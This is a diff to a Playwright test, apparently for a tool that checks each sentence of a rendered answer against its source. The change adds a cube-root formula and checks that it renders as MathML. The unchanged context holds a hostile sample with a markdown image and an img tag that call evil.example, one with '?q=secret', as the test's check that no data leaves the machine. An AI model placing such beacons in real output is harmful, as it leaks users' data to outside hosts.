@@ -15,7 +15,8 @@ playwright = pytest.importorskip("playwright.sync_api")
 
 ANSWER = (
     "The harbour of Fowey opens at six in the morning. [1] The lighthouse shows three white flashes every ten seconds. "
-    "[1]\n\nBoats leave with the tide.\n\n| what | when |\n|---|---|\n| mooring fees | paid monthly to the mayor |\n\n"
+    "[1]\n\nBoats leave with the tide.\n\n"
+    "| what | when |\n|---|---|\n| mooring fees | paid monthly to the mayor, $f = \\sqrt[3]{x}$ |\n\n"
 )
 HOSTILE = (
     "![beacon](https://evil.example/beacon.png?q=secret) [click][r] <img src='https://evil.example/x.png'>\n"
@@ -45,6 +46,8 @@ def test_every_sentence_is_checked_and_nothing_leaves_the_machine(tmp_path: Path
         page.locator(".remark").first.focus()
         tip = page.locator(".remark").first.locator("xpath=following-sibling::span")
         assert "“three” is not in the source, which says “two”" in tip.inner_text()
+        root = page.locator(".text mroot")
+        assert root.evaluate("it => it.namespaceURI.endsWith('MathML') && it.getBoundingClientRect().width > 9")
         page.screenshot(path=SHOTS / "checked.png", full_page=True)
         page.set_viewport_size({"width": 390, "height": 844})
         assert page.evaluate("document.documentElement.scrollWidth") <= 390
